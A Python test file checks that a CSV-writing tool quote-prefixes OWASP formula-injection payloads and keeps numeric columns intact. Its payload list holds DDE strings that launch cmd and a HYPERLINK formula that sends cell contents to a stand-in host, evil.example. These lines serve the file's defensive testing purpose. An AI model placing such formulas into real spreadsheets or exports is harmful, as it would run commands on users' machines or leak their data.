"""CSV-injection payloads (OWASP) written by the app come back as the same text with its quote prefix, and
nothing in the file starts a formula; numbers stay numbers; a carriage return never splits a row."""

from __future__ import annotations

import argparse
import csv
from pathlib import Path

import pandas as pd
import pytest

from usagelens.cli import analyze
from usagelens.io import detect_options, read_table, write_csv
from usagelens.io.writers import CSV_FORMULA_STARTS

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "\t=1+1",
    "\r=1+1",
    "=1+1\r\nsecond line",
    "-",
]


def cells_a_spreadsheet_sees(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def assert_inert(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(CSV_FORMULA_STARTS) or _number(cell), f"live formula: {cell!r}"


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_payloads_round_trip_with_their_quote_prefix_and_numbers_stay_numbers(tmp_path: Path) -> None:
    path = tmp_path / "comments.csv"
    frame = pd.DataFrame({"comment": PAYLOADS, "score": [-1.5, -2, 0, 3, -4.25, 5, 6, 7, 8, -9]})
    write_csv(frame, path)
    rows = cells_a_spreadsheet_sees(path)
    assert len(rows) == len(PAYLOADS) + 1  # no value split its row
    assert_inert(rows)
    back = read_table(path, detect_options(path))
    assert back["comment"].tolist() == ["'" + payload for payload in PAYLOADS]
    assert pd.api.types.is_numeric_dtype(back["score"]) and back["score"].tolist() == frame["score"].tolist()


@pytest.fixture
def hostile_events(tmp_path: Path) -> Path:
    path = tmp_path / "events.csv"
    lines = ["user_id,timestamp,event"] + [
        f'u{number},2024-03-0{1 + number % 5} 10:00:00,"{payload.replace(chr(34), chr(34) * 2)}"'
        for number, payload in enumerate(PAYLOADS[:6])
    ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_usagelens_analyze_out_is_inert_too(hostile_events: Path, tmp_path: Path) -> None:
    out = tmp_path / "events_out.csv"
    parser = argparse.ArgumentParser(prog="usagelens")
    analyze.add_parser(parser.add_subparsers(dest="command"))
    argv = ["analyze", str(hostile_events), "--user", "user_id", "--time", "timestamp", "--event", "event",
            "events", "--out", str(out)]
    assert analyze.run(parser.parse_args(argv)) == 0
    rows = cells_a_spreadsheet_sees(out)
    assert_inert(rows)
    events = [row[rows[0].index("event")] for row in rows[1:]]
    assert sorted(events) == sorted("'" + payload for payload in PAYLOADS[:6])
